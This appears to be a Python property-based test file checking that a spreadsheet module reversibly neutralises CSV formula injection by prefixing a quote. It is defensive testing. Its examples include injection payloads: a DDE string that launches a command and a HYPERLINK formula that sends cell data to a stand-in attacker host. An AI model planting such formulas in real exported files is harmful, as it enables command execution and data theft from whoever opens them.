"""CSV cells are neutralised against formula injection reversibly (OWASP's leading quote)."""

from __future__ import annotations

from hypothesis import example, given
from hypothesis import strategies as st

from jaga.spreadsheet import TRIGGERS, neutralise, restore


@given(st.text())
@example("=cmd|' /C calc'!A0")
@example("@SUM(1+1)*cmd|' /C calc'!A0")
@example('+HYPERLINK("http://evil.example/?"&A1,"klik")')
@example("'=already quoted")
@example("''+")
@example("-")
@example("O'Neil")
def test_neutralising_is_reversed_exactly_and_never_leaves_a_formula(value: str) -> None:
    written = neutralise(value)
    assert restore(written) == value
    assert not written.startswith(TRIGGERS)


def test_ordinary_cells_are_left_alone() -> None:
    for value in ("Siti Aminah", "3374014203940001", "2025-01-10", "O'Neil", ""):
        assert neutralise(value) == value
    assert neutralise("+6281234567890") == "'+6281234567890"
